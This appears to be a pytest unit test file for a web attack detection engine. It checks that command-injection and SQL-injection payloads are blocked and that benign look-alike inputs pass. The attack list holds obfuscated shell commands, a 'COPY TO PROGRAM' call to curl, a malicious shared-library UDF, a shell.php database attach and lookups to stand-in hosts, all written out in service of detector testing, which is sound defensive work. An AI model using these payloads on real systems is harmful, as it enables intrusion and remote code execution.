"""Unit: shapes first met in the PayloadsAllTheThings class pages (split fresh11): the attacks each rule must block,
and the benign values of the same look it must let through. Every case goes through the whole engine (decoders,
prefilter, analysers), with other values than the corpus uses."""

from __future__ import annotations

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
QUERY = Context("query", "q")



ATTACKS: dict[str, tuple[str, Context]] = {
    # a command word split by characters the shell removes, or with ${IFS} for the space
    "tool_split_by_quote_pairs": ("u'n'a\"m\"e -a", QUERY),
    "tool_split_by_empty_quotes": ("nsl''ookup attacker.example", BODY),
    "tool_split_by_backslashes": ("if\\con\\fig", QUERY),
    "shell_path_split_by_backslashes": ("/\\u\\sr/b\\in//ba\\sh", BODY),
    "tool_split_by_empty_expansions": ("net$()st$@at -an", QUERY),
    "tool_split_by_echo_substitution": ("sys$(echo tem)info", BODY),
    "tool_split_by_empty_backticks": ("c``at /etc/hosts", QUERY),
    "ifs_as_the_space": ("cat${IFS}/var/log/auth.log", BODY),
    "ifs_var_as_the_space": ("id$IFS$9-u", QUERY),
    "cmd_substring_as_the_space": ("ping%SystemDrive:~0,-1%10.1.1.1", QUERY),
    "pipe_into_the_running_shell": ("printf uname|${0}", BODY),
    "ansi_c_variable_run": ("CMDX=$'netstat\\x20-an'&&$CMDX", QUERY),
    "ssh_option_injection": ("-oLocalCommand=id", QUERY),
    # a database fingerprint: an expression equal to itself, or a PostgreSQL cast compared to its number
    "function_equal_to_itself": ("database_name()=database_name()", QUERY),
    "function_with_literal_equal_to_itself": ("md5('probe')=md5('probe')", BODY),
    "number_equal_to_itself": ("4711=4711", QUERY),
    "number_equal_to_itself_after_or": ("9 or 808=808", QUERY),
    "postgres_cast_compared": ("7::bigint=7", QUERY),
    # statements only SQL writes
    "xp_fileexist_to_a_share": ("xp_fileexist '\\\\files.example\\s'", BODY),
    "copy_to_program": ("COPY logs TO PROGRAM 'curl x.example'", BODY),
    "sqlite_attach": ("ATTACH DATABASE '/srv/app/shell.php' AS pwn", BODY),
    "restore_from_share": ("RESTORE HEADERONLY FROM DISK = '\\\\h.example\\f'", BODY),
    "master_catalogue_read": ("SELECT name FROM master.dbo.sysdatabases", QUERY),
    "udf_from_a_shared_library": ("CREATE FUNCTION run(text) RETURNS int AS '/tmp/evil.so', 'run' LANGUAGE C", BODY),
    "exec_at_linked_server": ("EXEC('SELECT 1') AT [REMOTE]", BODY),
    "column_count_probe": ("ORDER BY 12--", QUERY),
    "version_select": ("select version();", QUERY),
    "oracle_xml_runs_a_query": ("dbms_xmlgen.getxml('select owner from all_tables')", QUERY),
    "char_code_concatenated_to_call": (",cast(chr(64)||current_user()||chr(64) as text)", QUERY),
}

_CMDI_PREFIXES = ("tool_", "shell_", "ifs_", "cmd_", "pipe_", "ansi_", "ssh_")
RULES = {name: "cmdi" if name.startswith(_CMDI_PREFIXES) else "sqli" for name in ATTACKS}


@pytest.mark.parametrize(("name", "value", "ctx"), [(k, *v) for k, v in ATTACKS.items()], ids=ATTACKS.keys())
def test_fresh11_shape_is_blocked(engine: Engine, name: str, value: str, ctx: Context) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None, value
    assert found.rule.attack == RULES[name]


BENIGN: dict[str, tuple[str, Context]] = {
    # apostrophes and quotes in names and prose: an unclosed quote, a wrapped word, a split word that names no tool
    "name_with_apostrophes": ("O'Neil's Bakery", BODY),
    "contraction": ("I'd rather not", QUERY),
    "quoted_word": ('"test"', QUERY),
    "title_with_quote_pairs": ("Rock'n'Roll Hall of Fame", BODY),
    "windows_path": ("C:\\Users\\alice\\Documents", BODY),
    "shell_variable_in_prose": ("set $HOME first", QUERY),
    # equations and prose about databases
    "equation": ("E=mc2", BODY),
    "function_definition": ("f(x)=2x+1", BODY),
    "different_numbers": ("3=4", QUERY),
    "ipv6_like": ("fe80::1", QUERY),
    "copy_in_prose": ("copy the program from the old disk", BODY),
    "attach_in_prose": ("attach database dump as a file", BODY),
    "master_branch": ("merged from master..develop", BODY),
    "percent_then_tilde": ("Save 10%:~5 off", BODY),
    "awk_field": ("awk {print $0}", BODY),
    "sort_in_prose": ("Please order by 3 pm", BODY),
    "order_by_a_column": ("order by date", QUERY),
    "execute_in_prose": ("execute the plan at noon", BODY),
    "proxycommand_in_prose": ("set ProxyCommand in the ssh config", BODY),
}


@pytest.mark.parametrize(("value", "ctx"), BENIGN.values(), ids=BENIGN.keys())
def test_benign_value_passes(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None
